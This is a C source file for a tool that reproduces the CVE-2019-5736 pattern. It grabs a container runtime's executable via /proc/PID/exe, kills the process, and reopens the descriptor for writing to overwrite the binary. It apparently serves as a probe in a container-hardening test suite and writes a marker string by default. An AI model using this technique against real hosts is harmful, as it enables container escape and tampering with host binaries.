// SPDX-License-Identifier: GPL-2.0
/*
 * Overwrite of a host binary through a /proc magic link, the pattern of
 * CVE-2019-5736: the container gets hold of the runtime's executable
 * through /proc/PID/exe while the runtime runs (O_PATH works even though
 * the file is busy), waits for it to exit and reopens the O_PATH
 * descriptor through /proc/self/fd/N for writing.
 *
 *   exe-overwrite PID [DATA]
 *
 * Opens /proc/PID/exe with O_PATH, sends PID a SIGTERM (standing in for
 * the runtime's exit) and waits up to 10 s until it is gone or a zombie,
 * then reopens /proc/self/fd/N with O_WRONLY and writes DATA (default
 * "DSEC-OVERWRITTEN") at offset 0. Steps: "open /proc/PID/exe",
 * "reopen /proc/self/fd/N for writing", "write".
 */
#include <fcntl.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

#include "tool.h"

const char *tool_name = "exe-overwrite";

/* A zombie has dropped its memory map, so its executable is no longer busy. */
static int process_runs(pid_t pid)
{
	char path[64], stat[512], *state;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, stat, sizeof(stat) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	stat[n] = 0;
	state = strrchr(stat, ')');
	return state && state[1] == ' ' && state[2] != 'Z' && state[2] != 'X';
}

int main(int argc, char **argv)
{
	const char *data = argc > 2 ? argv[2] : "DSEC-OVERWRITTEN";
	struct timespec tick = { 0, 20 * 1000 * 1000 };
	char path[64];
	int pathfd, fd, i;
	pid_t pid;

	if (argc < 2 || argc > 3)
		tool_usage("usage: exe-overwrite PID [DATA]");
	pid = tool_number("PID", argv[1]);

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	pathfd = open(path, O_PATH);
	if (pathfd < 0)
		tool_step_failed(errno, "open /proc/%d/exe", pid);

	if (kill(pid, SIGTERM) < 0)
		tool_usage("cannot stop process %d: %s", pid, strerror(errno));
	for (i = 0; i < 500 && process_runs(pid); i++)
		nanosleep(&tick, NULL);
	if (process_runs(pid))
		tool_usage("process %d still runs after 10 s; its executable stays busy", pid);

	snprintf(path, sizeof(path), "/proc/self/fd/%d", pathfd);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		tool_step_failed(errno, "reopen /proc/self/fd/%d for writing", pathfd);
	if (write(fd, data, strlen(data)) < 0)
		tool_step_failed(errno, "write");
	close(fd);
	tool_ok();
}
